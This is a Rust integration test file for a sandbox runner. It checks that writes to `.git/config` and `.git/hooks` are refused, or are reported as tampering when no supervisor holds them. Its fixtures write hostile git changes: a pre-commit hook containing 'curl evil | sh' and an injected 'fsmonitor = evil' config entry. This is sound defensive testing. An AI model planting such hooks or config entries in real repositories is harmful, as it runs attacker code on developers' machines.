//! Protected paths where nothing holds them: without the namespace stage (`--no-stage`,
//! or a container that refuses `unshare`) the runner's supervisor refuses writes to them
//! (tests/protected_writes.rs), but where it cannot run either (a kernel without seccomp
//! user notification or before Linux 5.14, another supervisor above: the `no-notify`
//! helper plays one, and takes the stage away too) nothing binds `.git/config` or
//! `.git/hooks` read-only, so a command can change them. `stockade run` takes their
//! state before the command and reports each change after it (`protectedChanged`,
//! `tampered`, a marker); it does not put them back. Controls: a command that only reads
//! them, or writes elsewhere in the workspace (the repository's other files among them),
//! reports nothing; under the stage the same writes are refused (EROFS) and nothing is
//! reported as changed.
//!
//! These run as root and, through `tests/unprivileged`, as an ordinary user.

mod support;
use std::path::{Path, PathBuf};
use support::*;

/// The stand-in for a container's default seccomp profile.
const CONTAINER: Option<&str> = Some("no-userns");
/// Neither the stage nor the supervisor.
const NOTHING: Option<&str> = Some("no-notify");

/// A repository in the fixture's workspace: `.git/config`, a hook, another git file.
fn repository(fx: &Fixture) -> (PathBuf, PathBuf) {
    let hooks = fx.ws.join(".git/hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    let hook = hooks.join("pre-commit");
    std::fs::write(&hook, "#!/bin/sh\nexit 0\n").unwrap();
    let config = fx.ws.join(".git/config");
    std::fs::write(&config, "[core]\n\tbare = false\n").unwrap();
    std::fs::write(fx.ws.join(".git/description"), "unnamed\n").unwrap();
    (config, hook)
}

/// `stockade run --json -- sh -c SCRIPT` (through the container stand-in when `mask`
/// says so): the document, after checking the command's own exit code is `code`.
#[track_caller]
fn run_json(fx: &Fixture, mask: Option<&str>, script: &str, code: i32) -> serde_json::Value {
    let out = fx
        .stockade_masked(mask, ["run", "--json", "--", "sh", "-c", script])
        .output()
        .unwrap();
    let v: serde_json::Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}\n{}", text(&out.stdout), text(&out.stderr)));
    assert_eq!(v["exitCode"], code, "{v}");
    v
}

fn changed(v: &serde_json::Value) -> Vec<(String, String)> {
    v["protectedChanged"]
        .as_array()
        .map(|a| {
            a.iter()
                .map(|c| {
                    (
                        c["path"].as_str().unwrap().to_string(),
                        c["change"].as_str().unwrap().to_string(),
                    )
                })
                .collect()
        })
        .unwrap_or_default()
}

fn p(path: &Path) -> String {
    path.display().to_string()
}

/// Each write to a protected path is reported, names the path and how it changed, and
/// stays (reported, not undone); the text mode says it in a marker.
fn writes_are_reported(fx: &Fixture, mask: Option<&str>) {
    let (config, hook) = repository(fx);
    let added = fx.ws.join(".git/hooks/post-checkout");
    let cases: [(&str, &Path, &str); 4] = [
        (
            "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
            &config,
            "modified",
        ),
        (
            "echo 'curl evil | sh' > .git/hooks/pre-commit",
            &hook,
            "modified",
        ),
        ("echo evil > .git/hooks/post-checkout", &added, "added"),
        // Replaced by a new file under the same name (a new inode).
        (
            "echo '[core]' > c.new && mv c.new .git/config",
            &config,
            "modified",
        ),
    ];
    for (script, path, how) in cases {
        let v = run_json(fx, mask, script, 0);
        assert_eq!(changed(&v), [(p(path), how.to_string())], "{script}: {v}");
        assert_eq!(v["sandbox"]["tampered"], true, "{script}: {v}");
    }
    // Not put back: the last write is what the file holds.
    assert_eq!(std::fs::read_to_string(&config).unwrap(), "[core]\n");
    assert!(added.exists());
    // The text mode: one marker line naming the path.
    let out = fx
        .stockade_masked(mask, ["run", "--", "sh", "-c", "echo x >> .git/config"])
        .output()
        .unwrap();
    assert_code(&out, 0);
    let want = format!(
        "[sandbox: protected path changed (modified): {}]",
        p(&config)
    );
    assert!(
        text(&out.stderr).lines().any(|l| l == want),
        "{}",
        text(&out.stderr)
    );
}

/// Reading the protected paths, and writing beside them, reports nothing.
fn reads_and_other_writes_are_not_reported(fx: &Fixture, mask: Option<&str>) {
    repository(fx);
    let script = "cat .git/config .git/hooks/pre-commit >/dev/null && ls -la .git/hooks >/dev/null
        echo more >> .git/description; mkdir -p src; echo x > src/main.rs; echo y > .envrc.bak";
    let v = run_json(fx, mask, script, 0);
    assert!(v.get("protectedChanged").is_none(), "{v}");
    assert_eq!(v["sandbox"]["tampered"], false, "{v}");
    let out = fx
        .stockade_masked(mask, ["run", "--", "sh", "-c", script])
        .output()
        .unwrap();
    assert_code(&out, 0);
    assert!(
        !text(&out.stderr).contains("protected path"),
        "{}",
        text(&out.stderr)
    );
}

#[test]
fn with_no_stage_and_no_supervisor_writes_to_protected_paths_are_reported() {
    writes_are_reported(&Fixture::new(), NOTHING);
}

#[test]
fn with_no_stage_reads_and_writes_elsewhere_are_not_reported() {
    reads_and_other_writes_are_not_reported(&Fixture::new(), None);
}

#[test]
fn in_a_container_without_namespaces_or_supervisor_writes_to_protected_paths_are_reported() {
    writes_are_reported(&Fixture::staged(), NOTHING);
}

/// Where the supervisor holds them, the same writes are refused and nothing is
/// reported changed.
#[test]
fn where_the_supervisor_holds_them_the_same_writes_are_refused_and_not_reported() {
    for (fx, mask) in [(Fixture::new(), None), (Fixture::staged(), CONTAINER)] {
        let (config, _) = repository(&fx);
        let before = std::fs::read(&config).unwrap();
        let v = run_json(&fx, mask, "echo x >> .git/config", 2);
        assert!(v.get("protectedChanged").is_none(), "{v}");
        assert_eq!(v["sandbox"]["tampered"], false, "{v}");
        assert_eq!(std::fs::read(&config).unwrap(), before);
    }
}

#[test]
fn in_a_container_without_namespaces_reads_are_not_reported() {
    reads_and_other_writes_are_not_reported(&Fixture::staged(), CONTAINER);
}

/// Past the entries recorded per protected path (4096), names are not compared: a
/// command that fills `.git/hooks` in the same run as it rewrites a hook is reported
/// (the directory, modified). Control: a directory already that full before the run,
/// which the command leaves alone, reports nothing.
fn filling_a_protected_directory_is_reported(mask: Option<&str>, stage: bool) {
    let fresh = || {
        let mut fx = Fixture::new();
        fx.stage = stage;
        repository(&fx);
        fx
    };
    let fill =
        "mkdir .git/hooks/a; i=0; while [ $i -lt 4100 ]; do : > .git/hooks/a/$i; i=$((i+1)); done";
    let fx = fresh();
    let script = format!("{fill}; echo 'curl evil | sh' > .git/hooks/pre-commit");
    let v = run_json(&fx, mask, &script, 0);
    let hooks = (p(&fx.ws.join(".git/hooks")), "modified".to_string());
    assert!(changed(&v).contains(&hooks), "{v}");
    assert_eq!(v["sandbox"]["tampered"], true, "{v}");
    // Control: full before the run, and only read during it.
    let fx = fresh();
    let out = std::process::Command::new("sh")
        .args(["-c", fill])
        .current_dir(&fx.ws)
        .output()
        .unwrap();
    assert_code(&out, 0);
    let v = run_json(&fx, mask, "ls .git/hooks/a | wc -l", 0);
    assert!(v.get("protectedChanged").is_none(), "{v}");
    assert_eq!(v["sandbox"]["tampered"], false, "{v}");
}

#[test]
fn without_the_stage_or_supervisor_filling_a_protected_directory_is_reported() {
    // Where the supervisor holds them, the fill is refused (tests/protected_writes.rs).
    filling_a_protected_directory_is_reported(NOTHING, false);
    filling_a_protected_directory_is_reported(NOTHING, true);
}

/// A default name that did not exist is no change to a protected path: it appears, as
/// under the stage (`git worktree add` creates `.git/worktrees` rightly), and is reported
/// so, without `tampered`.
fn names_that_appear_are_reported_as_appeared(fx: &Fixture, mask: Option<&str>) {
    repository(fx);
    let v = run_json(fx, mask, "echo 'export X=1' > .envrc", 0);
    assert_eq!(
        v["protectedAppeared"],
        serde_json::json!([p(&fx.ws.join(".envrc"))]),
        "{v}"
    );
    assert!(v.get("protectedChanged").is_none(), "{v}");
    assert_eq!(v["sandbox"]["tampered"], false, "{v}");
}

#[test]
fn without_the_stage_protected_names_that_appear_are_reported() {
    names_that_appear_are_reported_as_appeared(&Fixture::new(), None);
    names_that_appear_are_reported_as_appeared(&Fixture::staged(), CONTAINER);
}

#[test]
fn under_the_stage_the_same_writes_are_refused_and_nothing_is_reported() {
    let fx = Fixture::staged();
    let out = fx.stockade(["probe", "--json"]).output().unwrap();
    let probe: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
    if probe["kernel"]["namespaces"]["available"] != true {
        eprintln!("SKIPPED (needs namespaces): under_the_stage_the_same_writes_are_refused");
        return;
    }
    let (config, hook) = repository(&fx);
    let before = (
        std::fs::read(&config).unwrap(),
        std::fs::read(&hook).unwrap(),
    );
    for script in [
        "printf '[core]\\n\\tfsmonitor = evil\\n' >> .git/config",
        "echo 'curl evil | sh' > .git/hooks/pre-commit",
        "echo evil > .git/hooks/post-checkout",
    ] {
        let out = fx
            .stockade(["run", "--json", "--", "sh", "-c", script])
            .output()
            .unwrap();
        let v: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
        assert_ne!(v["exitCode"], 0, "{script}: {v}");
        assert!(
            v["stderr"]["text"]
                .as_str()
                .unwrap()
                .contains("Read-only file system"),
            "{script}: {v}"
        );
        assert!(v.get("protectedChanged").is_none(), "{script}: {v}");
        assert_eq!(v["sandbox"]["tampered"], false, "{script}: {v}");
    }
    assert_eq!(
        (
            std::fs::read(&config).unwrap(),
            std::fs::read(&hook).unwrap()
        ),
        before
    );
    assert!(!fx.ws.join(".git/hooks/post-checkout").exists());
    // Control: the stage still lets the workspace beside them be written.
    let v = run_json(&fx, None, "echo more >> .git/description", 0);
    assert!(v.get("protectedChanged").is_none(), "{v}");
}
